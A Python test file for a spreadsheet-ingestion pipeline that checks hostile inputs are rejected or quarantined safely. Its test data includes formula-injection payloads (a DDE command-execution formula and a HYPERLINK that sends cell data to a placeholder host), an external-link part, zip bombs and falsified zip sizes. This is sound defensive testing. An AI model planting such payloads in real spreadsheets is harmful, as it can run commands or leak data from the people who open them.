"""Hostile files: each is rejected with a reason or its rows quarantined, never a crash, a hang
or a formula executed. The explicit cases run in one child process with a timeout (a hang
fails the test instead of stalling the suite); random bytes and random cells go through
hypothesis, in bounded examples."""
from __future__ import annotations
from tests.conftest import TEST_KEY

import io
import json
import os
import random
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from pipeline.clean.year import clean_folder, clean_sheets
from pipeline import config
from pipeline.ingest import read
from pipeline import schema
from pipeline.report.workbook import write_workbook

HEADER = ["Fecha", "Actividad", "Comuna", "Línea", "Organización", "Nombre", "RUT", "Sexo", "Edad"]
GOOD = ["2017-05-02", "Taller de prueba", "Ovalle", "Barrios", "Junta de Vecinos Uno", "Ana Pérez",
        "12.345.678-5", "F", "30"]
FORMULAS = ['=HYPERLINK("http://ejemplo.invalid/?q="&A1,"clic")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "=1+1"]


def _xlsx(path: Path, rows: list[list], title: str = "Hoja") -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def _csv(path: Path, rows: list[list], encoding: str = "utf-8") -> Path:
    import csv

    with open(path, "w", newline="", encoding=encoding) as fh:
        csv.writer(fh).writerows(rows)
    return path


def _add_parts(path: Path, parts: dict[str, bytes], patch_sizes: dict[str, int] | None = None) -> Path:
    """Rewrite a workbook with extra zip parts (external links), or lying declared sizes."""
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, src.read(item.filename))
        for name, data in parts.items():
            dst.writestr(name, data)
    data = bytearray(buf.getvalue())
    for name, size in (patch_sizes or {}).items():
        # central directory entry: signature PK\1\2, uncompressed size at offset 24 (4 bytes)
        encoded = name.encode()
        at = data.find(b"PK\x01\x02" + b"\x00" * 0)  # first entry
        while at != -1:
            name_len = int.from_bytes(data[at + 28: at + 30], "little")
            if bytes(data[at + 46: at + 46 + name_len]) == encoded:
                data[at + 24: at + 28] = size.to_bytes(4, "little")
            at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return path


def _replace_part(path: Path, name: str, content: bytes) -> Path:
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, content if item.filename == name else src.read(item.filename))
    path.write_bytes(buf.getvalue())
    return path


# --------------------------------------------------------------------------- explicit hostile cases


def _build_cases(root: Path) -> dict[str, Path]:
    """One folder per hostile case (each also holds nothing else), built with real writers."""
    cases: dict[str, Path] = {}

    def folder(name: str) -> Path:
        d = root / name
        d.mkdir()
        cases[name] = d
        return d

    good = _xlsx(root / "bueno.xlsx", [HEADER] + [GOOD] * 200)
    data = good.read_bytes()
    (folder("xlsx_truncado") / "t.xlsx").write_bytes(data[: len(data) // 2])
    (folder("xlsx_corrupto") / "c.xlsx").write_bytes(data[:400] + bytes(random.Random(1).randbytes(4000)))
    (folder("xlsx_no_es_zip") / "n.xlsx").write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    (folder("csv_bytes_al_azar") / "r.csv").write_bytes(random.Random(2).randbytes(200_000))
    (folder("csv_bytes_altos") / "h.csv").write_bytes(bytes(random.Random(3).choices(range(0x80, 0x100), k=50_000)))
    (folder("csv_100000_columnas") / "w.csv").write_text(
        ",".join(HEADER + [f"c{i}" for i in range(100_000)]) + "\n" + ",".join(GOOD) + "\n", encoding="utf-8")
    _xlsx(folder("xlsx_16384_columnas") / "w.xlsx", [HEADER + [f"c{i}" for i in range(16_384 - len(HEADER))], GOOD])
    big = "x" * 10_000_000
    _csv(folder("csv_celda_10mb") / "g.csv", [HEADER, GOOD, GOOD[:1] + [big] + GOOD[2:],
                                              GOOD[:5] + [big] + GOOD[6:]])
    _xlsx(folder("xlsx_celda_10mb") / "g.xlsx", [HEADER, GOOD, GOOD[:4] + [big] + GOOD[5:]])
    rows = [HEADER] + [GOOD[:1] + [f] + GOOD[2:3] + [f, f] + GOOD[5:] for f in FORMULAS]
    _csv(folder("csv_formulas") / "f.csv", rows)
    _xlsx(folder("xlsx_formulas") / "f.xlsx", rows)  # openpyxl stores "=..." as real formulas
    ext = _xlsx(folder("xlsx_vinculo_externo") / "e.xlsx",
                [HEADER, GOOD, GOOD[:1] + ["='C:\\[secreto.xlsx]Hoja1'!A1"] + GOOD[2:]])
    _add_parts(ext, {
        "xl/externalLinks/externalLink1.xml":
            b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/externalLinkPath" Target="http://ejemplo.invalid/secreto.xlsx" '
            b'TargetMode="External"/></Relationships>',
    })
    # a sheet that inflates far beyond its size on disk (a zip bomb in small)
    bomb = _xlsx(folder("xlsx_bomba") / "b.xlsx", [HEADER, GOOD])
    with zipfile.ZipFile(bomb) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    _replace_part(bomb, "xl/worksheets/sheet1.xml",
                  sheet.replace(b"</sheetData>", b" " * 300_000_000 + b"</sheetData>"))
    # the same trick with the central directory lying about the size
    liar = _xlsx(folder("xlsx_tamano_falso") / "l.xlsx", [HEADER, GOOD])
    _add_parts(liar, {}, patch_sizes={"xl/worksheets/sheet1.xml": 0xFFFFFFF0})
    return cases


HARNESS = '''
import json, signal, sys, traceback
from pathlib import Path
from pipeline.clean.year import clean_folder, clean_sheets
from pipeline.ingest import read
from pipeline.ingest.files import log_files
from pipeline.ingest.sheets import Reading

class Colgado(Exception):
    pass

def alarm(signum, frame):
    raise Colgado()

signal.signal(signal.SIGALRM, alarm)
out = {}
for folder in sys.argv[1:]:
    name = Path(folder).name
    signal.alarm(60)
    try:
        reading = Reading()
        for path in log_files(Path(folder)):
            reading.extend(read.read_file(path))
        rec = {"rechazos": [[r.code, r.detail] for r in reading.rejected],
               "omitidas": len(reading.skipped), "hojas": len(reading.sheets)}
        if reading.sheets:
            res = clean_sheets(reading, 2017, "Coquimbo")
            rec["cuarentena"] = res.calidad["cuarentena_por_motivo"]
            rec["validas"] = res.calidad["filas_validas"]
            rec["leidas"] = res.calidad["filas_leidas"]
            rec["actividades"] = sorted(set(res.actividades["actividad"].dropna()))
            rec["lineas"] = sorted(set(res.actividades["linea"].dropna()))
        out[name] = rec
    except Colgado:
        out[name] = {"error": "colgado (más de 60 s)"}
    except BaseException as exc:
        out[name] = {"error": f"{type(exc).__name__}: {exc}"[:500], "tb": traceback.format_exc()[-2000:]}
    finally:
        signal.alarm(0)
print(json.dumps(out))
'''


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory) -> dict[str, dict]:
    root = tmp_path_factory.mktemp("hostiles")
    cases = _build_cases(root)
    result = subprocess.run([sys.executable, "-c", textwrap.dedent(HARNESS), *map(str, cases.values())],
                            capture_output=True, text=True, cwd=config.PROJ_ROOT, timeout=300,
                            env={**os.environ, "BALANCE_CLAVE": TEST_KEY})
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


REJECTED = {
    "xlsx_truncado": "archivo_ilegible", "xlsx_corrupto": "archivo_ilegible", "xlsx_no_es_zip": "archivo_ilegible",
    "csv_bytes_al_azar": "archivo_ilegible", "csv_100000_columnas": "demasiadas_columnas",
    "xlsx_16384_columnas": "demasiadas_columnas", "xlsx_bomba": "archivo_ilegible",
    "xlsx_tamano_falso": "archivo_ilegible",
}


@pytest.mark.parametrize("case", sorted(REJECTED))
def test_hostile_file_rejected_with_reason(outcomes, case):
    got = outcomes[case]
    assert "error" not in got, got
    assert [c for c, _ in got["rechazos"]] == [REJECTED[case]], got
    assert got["hojas"] == 0
    assert schema.REJECTION_REASONS[REJECTED[case]]


def test_random_high_bytes_rejected_or_skipped(outcomes):
    got = outcomes["csv_bytes_altos"]
    assert "error" not in got, got
    assert got["hojas"] == 0 and (got["rechazos"] or got["omitidas"])


@pytest.mark.parametrize("case", ["csv_celda_10mb", "xlsx_celda_10mb"])
def test_ten_megabyte_cell_quarantines_its_row(outcomes, case):
    got = outcomes[case]
    assert "error" not in got, got
    long_rows = 2 if case.startswith("csv") else 1
    assert got["cuarentena"]["celda_demasiado_larga"] == long_rows
    assert got["validas"] == 1 and got["leidas"] == 1 + long_rows


def test_formulas_in_csv_stay_text(outcomes):
    got = outcomes["csv_formulas"]
    assert "error" not in got, got
    assert got["validas"] == len(FORMULAS)
    assert set(FORMULAS) <= set(got["actividades"])  # as typed, never evaluated


def test_formulas_in_xlsx_are_never_evaluated(outcomes):
    """calamine returns a formula's cached result; openpyxl writes none, so the cell is empty."""
    got = outcomes["xlsx_formulas"]
    assert "error" not in got, got
    assert got["leidas"] == len(FORMULAS)
    assert got["cuarentena"]["actividad_faltante"] + got["validas"] == len(FORMULAS)
    assert not {"clic", "3", "2"} & set(got.get("actividades", [])), "a formula was evaluated"


def test_external_link_is_not_followed(outcomes):
    got = outcomes["xlsx_vinculo_externo"]
    assert "error" not in got, got
    assert got["leidas"] == 2 and got["validas"] >= 1


# --------------------------------------------------------------------------- the workbook the pipeline writes


def test_workbook_neutralises_formulas_from_the_sheets(tmp_path):
    """Text typed in the sheets that reaches the workbook (lines of work here) is never a formula."""
    raw = tmp_path / "2017"
    raw.mkdir()
    # each line in 3 activities: rarer free-text lines are grouped as Otras
    rows = [HEADER] + [GOOD[:1] + [f"Taller {i} {k}"] + GOOD[2:3] + [f] + GOOD[4:]
                       for i, f in enumerate(FORMULAS) for k in range(3)]
    _csv(raw / "f.csv", rows)
    res = clean_folder(raw, 2017, "Coquimbo")
    from pipeline.indicators import annual

    ind = annual.compute(res.actividades, res.asistencias, res.calidad, 2017, "Coquimbo")
    lines = set(ind["actividades_por_linea"])
    assert any(line.startswith(("=", "+", "-", "@")) for line in lines), lines
    path = write_workbook(ind, tmp_path / "indicadores.xlsx")
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in zf.read(name).decode("utf-8"), name
    ws = load_workbook(path)["Líneas de trabajo"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    dangerous = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert dangerous and all(c.data_type == "s" for c in dangerous)


# --------------------------------------------------------------------------- hypothesis


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(min_size=0, max_size=5000), st.sampled_from([".csv", ".xlsx"]))
def test_random_bytes_through_cleaning_never_crash(tmp_path_factory, data, suffix):
    raw = tmp_path_factory.mktemp("azar")
    (raw / f"azar{suffix}").write_bytes(data)
    reading = read.read_file(raw / f"azar{suffix}")
    assert len(reading.sheets) + len(reading.rejected) + len(reading.skipped) >= 1
    if reading.sheets:
        res = clean_sheets(reading, 2017, "Coquimbo")
        cal = res.calidad
        assert cal["filas_leidas"] == cal["filas_validas"] + cal["duplicados"] + cal["cuarentena"]


_ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60)
_VALUE = st.one_of(_ANY_TEXT, st.sampled_from(FORMULAS), st.integers(-10**12, 10**12),
                   st.floats(allow_nan=True, allow_infinity=True), st.sampled_from(GOOD), st.none())


@pytest.mark.slow  # 30 random logs, each read and cleaned: in make test, not in make test-rapido
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(_VALUE, min_size=len(HEADER), max_size=len(HEADER)), min_size=1, max_size=8),
       st.sampled_from(["csv", "xlsx"]))
def test_random_cells_never_crash_and_every_row_is_accounted(tmp_path_factory, rows, kind):
    raw = tmp_path_factory.mktemp("celdas")
    if kind == "csv":
        text_rows = [[_csv_text(v) for v in row] for row in rows]
        _csv(raw / "c.csv", [HEADER] + text_rows)
    else:
        _xlsx(raw / "c.xlsx", [HEADER] + [[_xlsx_value(v) for v in row] for row in rows])
    reading = read.read_file(next(raw.iterdir()))
    assert reading.sheets or reading.rejected or reading.skipped
    if not reading.sheets:
        return
    res = clean_sheets(reading, 2017, "Coquimbo")
    cal = res.calidad
    assert cal["filas_leidas"] == cal["filas_validas"] + cal["duplicados"] + cal["cuarentena"]
    assert set(res.asistencias.columns) == set(schema.ASISTENCIAS_COLUMNS)
    assert not {"nombre", "rut"} & set(res.asistencias.columns)


_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _csv_text(v):
    if v is None:
        return ""
    return str(v).replace("\x00", "")


def _xlsx_value(v):
    if isinstance(v, float) and (v != v or v in (float("inf"), float("-inf"))):
        return str(v)
    if isinstance(v, str):
        return _ILLEGAL_XML.sub("", v)
    return v
